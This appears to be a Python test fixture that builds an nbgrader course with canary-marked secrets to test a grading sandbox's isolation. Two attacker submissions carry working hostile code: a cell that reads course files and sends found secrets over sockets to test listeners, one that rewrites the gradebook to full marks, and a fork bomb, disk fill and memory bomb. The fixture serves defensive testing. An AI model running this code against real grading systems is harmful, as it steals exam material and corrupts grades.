"""A real nbgrader course for the grading tests: source, release, submissions, gradebook.

``make_course`` writes an instructor's course directory (two assignments: ``ps1`` to grade and
``ps2``, generated but not yet released), runs ``nbgrader generate_assignment`` and puts five
submissions of ``ps1`` under ``submitted/``: three honest students and two attackers. Every
place the instructor's secrets live carries a canary string, so a test can search every output
for them:

- ``solution``: the instructor's solution code in ``source/ps1`` (never in a student's notebook);
- ``future``: ``source/ps2`` and ``release/ps2`` (not released yet) and, through ps2's tests,
  ``gradebook.db``;
- ``hidden``: ps1's hidden tests (in ``source/ps1`` and ``gradebook.db``; nbgrader puts them
  into each student's notebook for grading, so that kernel runs them);
- ``student-NAME``: each honest student's own answer.
"""

from __future__ import annotations

import copy
import os
import secrets
import shutil
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ASSIGNMENT = "ps1"
COURSE_ID = "course101"
KERNEL = "grading-sandbox"
POINTS = {"test_squares": 2, "test_mean": 3}  # 5 points in all
HONEST = {"alice": 5.0, "bob": 2.0, "carol": 0.0}  # correct, half right, left blank
ATTACKERS = ("eve", "mallory")


@dataclass
class Course:
    root: Path
    canaries: dict[str, str]
    listeners: list[tuple[str, int]]
    env: dict[str, str] = field(default_factory=dict)

    def copy(self, root: Path, env: dict[str, str]) -> Course:
        """The course as it is now, at ``root``, run with ``env`` (for another grading run)."""
        shutil.copytree(self.root, root, symlinks=True)
        return Course(root, self.canaries, self.listeners, env)

    def nbgrader(self, *args: str, timeout: float = 600) -> subprocess.CompletedProcess[str]:
        """``nbgrader ARGS`` in the course directory, as the instructor (root) runs it."""
        return subprocess.run(
            [sys.executable, "-m", "nbgrader", *args],
            cwd=self.root,
            env=self.env,
            capture_output=True,
            text=True,
            timeout=timeout,
        )


def _cell(kind: str, source: str, **nbgrader: object) -> nbformat.NotebookNode:
    make = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
    cell = make(source)
    if nbgrader:
        meta = {"schema_version": 3, "grade": False, "solution": False, "locked": False}
        cell.metadata["nbgrader"] = meta | nbgrader
    return cell


def _source_notebook(canaries: dict[str, str], future: bool = False) -> nbformat.NotebookNode:
    solution, hidden = canaries["solution"], canaries["hidden"]
    if future:  # ps2: everything in it is the instructor's until it is released
        solution = hidden = canaries["future"]
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    nb.cells = [
        _cell(
            "markdown", "# Problem set\nWrite `squares` and `mean`.", grade_id="intro", locked=True
        ),
        _cell(
            "code",
            "def squares(n):\n    ### BEGIN SOLUTION\n"
            f"    # {solution}\n    return [i * i for i in range(n)]\n    ### END SOLUTION",
            grade_id="squares",
            solution=True,
        ),
        _cell(
            "code",
            "assert squares(3) == [0, 1, 4]\n### BEGIN HIDDEN TESTS\n"
            f"# {hidden}\nassert squares(6) == [0, 1, 4, 9, 16, 25]\n### END HIDDEN TESTS",
            grade_id="test_squares",
            grade=True,
            locked=True,
            points=POINTS["test_squares"],
        ),
        _cell(
            "code",
            "def mean(xs):\n    ### BEGIN SOLUTION\n"
            f"    # {solution}\n    return sum(xs) / len(xs)\n    ### END SOLUTION",
            grade_id="mean",
            solution=True,
        ),
        _cell(
            "code",
            "assert mean([1, 2, 3]) == 2\n### BEGIN HIDDEN TESTS\n"
            f"# {hidden}\nassert mean([2, 4, 9]) == 5\n### END HIDDEN TESTS",
            grade_id="test_mean",
            grade=True,
            locked=True,
            points=POINTS["test_mean"],
        ),
    ]
    return nb


def _answers(name: str, canaries: dict[str, str], listeners: str) -> tuple[str, str]:
    """The two answer cells of student ``name``."""
    mine = canaries[f"student-{name}"] if f"student-{name}" in canaries else ""
    if name == "alice":
        return (
            f"def squares(n):\n    # {mine}\n    return [i * i for i in range(n)]",
            "def mean(xs):\n    return sum(xs) / len(xs)",
        )
    if name == "bob":  # squares right; mean passes the visible test, not the hidden one
        return (
            f"def squares(n):\n    # {mine}\n    return [i ** 2 for i in range(n)]",
            "def mean(xs):\n    return sorted(xs)[len(xs) // 2]",
        )
    if name == "carol":  # left the template as released
        return ("", "")
    if name == "mallory":  # reads whatever it can reach, phones home, tampers, prints it all
        return (STEAL.format(listeners=listeners), TAMPER)
    return (RESOURCES, MEMORY_BOMB)  # eve: fork bomb, disk, then memory


# Runs in the grading kernel: every place an instructor's or another student's secret lives.
# Runs in the grading kernel: every place an instructor's or another student's secret lives.
# It prints short lines first (nbgrader's LimitOutput keeps the first 1000 lines and 10,000
# characters of each output), then every canary-like string it found, then what it read.
STEAL = r"""
import os, re, socket, pathlib, getpass
here = pathlib.Path.cwd()
COURSE = here.parents[2]  # the course root, as nbgrader lays it out
found, notes = set(), []
def dump(path):
    try:
        if path.is_dir():
            for child in sorted(path.iterdir()):
                dump(child)
        else:
            found.update(re.findall(r"CANARY-[A-Za-z0-9-]+", path.read_bytes().decode("latin-1")))
            notes.append(f"READ {{path}}")
    except OSError as exc:
        notes.append(f"DENIED {{path}} {{type(exc).__name__}}")
for target in [COURSE, here.parents[0], here.parents[1],
               COURSE / "source", COURSE / "release", COURSE / "gradebook.db",
               COURSE / "submitted", COURSE / "autograded", COURSE / "feedback"]:
    dump(target)
for host, port in {listeners}:
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect((host, port))
        s.sendall(f"exfiltrated from {{here}}: {{sorted(found)}}".encode())
        print("CONNECTED", host, port)
    except OSError as exc:
        print("NO ROUTE", host, port, exc)
    finally:
        s.close()
print("cwd", here, "uid", os.getuid(), "user", getpass.getuser())
print("FOUND", " ".join(sorted(found)))
print("\n".join(notes[:200]))
def squares(n):
    return []
"""

TAMPER = r"""
import os, pathlib, sqlite3
COURSE = pathlib.Path.cwd().parents[2]
for path in [pathlib.Path.cwd() / "ps1.ipynb", COURSE / "gradebook.db",
             COURSE / "autograded" / "alice" / "ps1" / "ps1.ipynb", pathlib.Path.cwd() / "x"]:
    try:
        with open(path, "a") as f:
            f.write("TAMPERED" + "-BY-MALLORY")  # not in her notebook as one string
        print("WROTE", path)
    except OSError as exc:
        print("CANNOT WRITE", path, type(exc).__name__)
try:
    db = sqlite3.connect(str(COURSE / "gradebook.db"))
    db.execute("update grade set auto_score = 100")
    db.commit()
    print("GRADEBOOK CHANGED")
except Exception as exc:
    print("NO GRADEBOOK", type(exc).__name__, exc)
def mean(xs):
    return 0
"""

# A fork bomb that fills the pids limit, counted and then ended (so that the memory bomb
# after it meets the memory limit, not a kernel that cannot start a thread), then /tmp filled.
FORK_BOMB = r"""
import os, signal, time
bomb = os.fork()
if bomb == 0:
    os.setpgid(0, 0)
    while True:
        try:
            os.fork()
        except OSError:  # the pids limit: every process waits, holding its pid
            time.sleep(0.2)
os.setpgid(bomb, bomb)
time.sleep(3)
print("processes", sum(name.isdigit() for name in os.listdir("/proc")))
os.killpg(bomb, signal.SIGKILL)
os.waitpid(bomb, 0)
"""

RESOURCES = (
    FORK_BOMB
    + r"""
written = 0
try:
    with open("/tmp/fill", "wb") as f:
        while True:
            f.write(b"x" * (1 << 20))
            written += 1
except OSError as exc:
    print("disk full after", written, "MiB:", exc)
os.remove("/tmp/fill")
try:
    open("fill", "wb").write(b"x")
except OSError as exc:
    print("workspace:", exc)
def squares(n):
    return None
"""
)

MEMORY_BOMB = r"""
hog = []
while True:
    hog.append(bytearray(64 << 20))
"""


def _student_notebook(
    release: nbformat.NotebookNode, answers: tuple[str, str]
) -> nbformat.NotebookNode:
    nb = copy.deepcopy(release)
    solutions = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]
    for cell, answer in zip(solutions, answers, strict=True):
        if answer:
            cell.source = answer
    return nb


def make_course(root: Path, env: dict[str, str], listeners: list[tuple[str, int]]) -> Course:
    """Write the course, generate both assignments and put the five submissions in place."""
    token = secrets.token_hex(6)
    canaries = {
        "solution": f"CANARY-SOLUTION-{token}",
        "future": f"CANARY-FUTURE-{token}",
        "hidden": f"CANARY-HIDDEN-{token}",
        **{f"student-{name}": f"CANARY-STUDENT-{name}-{token}" for name in HONEST},
    }
    root.mkdir(parents=True)
    course = Course(root, canaries, listeners, env)
    (root / "nbgrader_config.py").write_text(
        "c = get_config()\n"
        f"c.CourseDirectory.course_id = {COURSE_ID!r}\n"
        # every submission runs in the sandboxed kernelspec, whatever its notebook names
        f"c.ExecutePreprocessor.kernel_name = {KERNEL!r}\n"
        "c.ExecutePreprocessor.timeout = 60\n"
        "c.ExecutePreprocessor.startup_timeout = 60\n"
    )
    for assignment in ("ps1", "ps2"):
        folder = root / "source" / assignment
        folder.mkdir(parents=True)
        nbformat.write(
            _source_notebook(canaries, future=assignment == "ps2"), folder / f"{assignment}.ipynb"
        )
    for assignment in ("ps1", "ps2"):
        done = course.nbgrader("generate_assignment", assignment, "--force")
        assert done.returncode == 0, done.stdout + done.stderr
    release = nbformat.read(root / "release" / "ps1" / "ps1.ipynb", as_version=4)
    shown = repr(listeners)
    for name in (*HONEST, *ATTACKERS):
        folder = root / "submitted" / name / ASSIGNMENT
        folder.mkdir(parents=True)
        nb = _student_notebook(release, _answers(name, canaries, shown))
        nbformat.write(nb, folder / f"{ASSIGNMENT}.ipynb")
        (folder / "timestamp.txt").write_text("2026-12-01 12:00:00.000000 UTC")
    os.chmod(root, 0o755)
    return course
